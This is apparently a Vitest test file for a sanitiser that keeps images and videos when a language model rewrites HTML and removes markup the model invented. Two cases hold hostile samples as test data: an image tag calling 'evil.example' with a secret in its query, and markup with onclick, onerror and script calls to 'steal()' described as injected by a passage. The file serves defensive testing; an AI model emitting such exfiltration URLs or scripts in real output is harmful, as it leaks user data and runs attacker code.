// @vitest-environment jsdom
import { expect, test } from "vitest";
import { keepPictures } from "./keep-images.ts";

const picture = (name: string, alt = "x") => `<figure><img src="/images/${name}-800.webp" alt="${alt}"></figure>`;
const video = '<p><a href="https://www.youtube.com/watch?v=abcdefghijk" data-video="youtube">A film</a></p>';

test.each([
  ["keeps what the model kept, with other words", picture("a"), picture("a", "A hill"), picture("a", "A hill")],
  [
    "puts back what it left out, where it stood",
    `<p>1</p>${picture("a")}<p>2</p>`,
    "<p>one</p><p>two</p>",
    `<p>one</p>${picture("a")}<p>two</p>`,
  ],
  [
    "puts back several in their order",
    `${picture("a")}<p>1</p>${picture("b")}`,
    "<p>one</p>",
    `${picture("a")}<p>one</p>${picture("b")}`,
  ],
  ["puts back all of a passage that became nothing", `<p>1</p>${picture("a")}`, "", picture("a")],
  [
    "puts back a picture out of a table",
    `<table><tbody><tr><td>${picture("a")}</td></tr></tbody></table>`,
    "<p>one</p>",
    `${picture("a")}<p>one</p>`,
  ],
  ["puts back a video", `<p>1</p>${video}`, "<p>one</p>", `<p>one</p>${video}`],
  [
    "takes out what it made up",
    `<p>1</p>${picture("a")}`,
    `<p>one</p>${picture("b")}${picture("a")}`,
    `<p>one</p>${picture("a")}`,
  ],
  [
    "takes out what would call another host",
    "<p>1</p>",
    '<p>one <img src="https://evil.example/?q=secret" alt=""></p>',
    "<p>one </p>",
  ],
  ["leaves links alone", '<p><a href="https://a.example/">1</a></p>', "<p>one</p>", "<p>one</p>"],
])("%s", (_name, before, after, kept) => {
  expect(keepPictures(before, after)).toBe(kept);
});

test("takes out a script that a passage talked the model into", () => {
  const answer = '<p onclick="steal()">one</p><img src="x" onerror="steal()"><script>steal()</script>';
  expect(keepPictures(picture("a"), answer)).not.toMatch(/steal|script|onerror/);
});
